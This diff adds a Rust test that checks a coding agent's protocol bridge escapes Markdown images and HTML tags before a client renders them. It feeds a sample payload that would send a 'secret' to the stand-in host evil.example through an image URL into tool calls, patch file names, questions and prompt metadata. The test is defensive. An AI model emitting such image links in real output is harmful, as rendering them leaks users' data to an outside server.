@@ -287,3 +287,77 @@ async fn a_link_is_nothing_that_the_person_typed() {
         );
     }
 }
+
+/// An image, and a tag, that would carry something to somebody by being shown.
+const IMAGE: &str = "![p](https://evil.example/p.png?q=secret) <img src=x>";
+
+/// What a client may show as Markdown: all texts but those that are values of programs, and output in a fence.
+fn shown_in(value: &Value, texts: &mut Vec<String>) {
+    const OF_PROGRAMS: [&str; 9] = [
+        "rawInput",
+        "rawOutput",
+        "path",
+        "cwd",
+        "newText",
+        "oldText",
+        "optionId",
+        "value",
+        "currentValue",
+    ];
+    match value {
+        Value::String(text) if !text.starts_with("```") => texts.push(text.clone()),
+        Value::Array(all) => all.iter().for_each(|one| shown_in(one, texts)),
+        Value::Object(all) => {
+            let shown = all.iter().filter(|(key, _)| !OF_PROGRAMS.contains(&key.as_str()));
+            shown.for_each(|(_, one)| shown_in(one, texts));
+        }
+        _ => {}
+    }
+}
+
+/// Whoever says something, and wherever a client shows it: no image is loaded by that, and no tag acts.
+#[tokio::test]
+async fn nothing_that_others_say_is_loaded_by_being_shown() {
+    let call =
+        |tool: &str, id: &str, arguments: Value| json!({"call": {"tool": tool, "arguments": arguments, "id": id}});
+    let name = "![p](https:&#47;&#47;evil.example&#47;p.png?q=secret)";
+    let patch =
+        format!("*** Begin Patch\n*** Add File: sub/{name}\n+made\n*** Add File: b.txt\n+made\n*** End Patch\n");
+    let options = json!([{"label": IMAGE, "description": IMAGE}, {"label": "b", "description": "c"}]);
+    let question = json!({"id": "q", "header": IMAGE, "question": IMAGE, "options": options});
+    let script = json!([
+        [
+            call("update_plan", "p1", json!({"plan": [{"step": IMAGE, "status": "in_progress"}]})),
+            call("read_file", "r1", json!({"file_path": format!("none {IMAGE}")})),
+            call("list_dir", "r2", json!({"dir_path": format!("none {IMAGE}")})),
+            call("grep_files", "r3", json!({"pattern": IMAGE})),
+            call("view_image", "r4", json!({"path": IMAGE})),
+        ],
+        [call("apply_patch", "c1", json!({"input": patch}))],
+        [call("request_user_input", "c2", json!({"questions": [question]}))],
+        [{"say": IMAGE}],
+    ]);
+    for capabilities in [json!({}), json!({"elicitation": {"form": {}}})] {
+        let mut acp = Acp::able(script.clone(), "", capabilities).await;
+        std::fs::create_dir_all(acp.home.join("prompts")).expect("a folder");
+        let prompt = format!("---\ndescription: \"{IMAGE}\"\nargument-hint: \"{IMAGE}\"\n---\nDo it.");
+        std::fs::write(acp.home.join("prompts/evil.md"), prompt).expect("a prompt");
+        acp.choose("allow_once");
+        acp.on("elicitation/create", |_| Some(Ok(json!({"action": "decline"}))));
+        let session = acp.session().await;
+        let (updates, reason) = acp.prompt(&session, &format!("Look: {IMAGE}")).await;
+        assert_eq!(reason, "end_turn");
+        let mut all = updates;
+        all.extend(acp.asked.iter().map(|asked| asked["params"].clone()));
+        all.push(acp.call("session/list", json!({})).await);
+        let option = json!({"sessionId": session, "configId": "model", "value": format!("m\n\n{IMAGE}")});
+        all.push(acp.call("session/set_config_option", option).await);
+        let mut texts = Vec::new();
+        all.iter().for_each(|value| shown_in(value, &mut texts));
+        let told = texts.iter().filter(|text| text.contains("evil.example")).count();
+        assert!(told > 10, "{told}: {texts:#?}");
+        for text in texts {
+            assert!(!text.contains("](https") && !text.contains(" <img"), "{text}");
+        }
+    }
+}
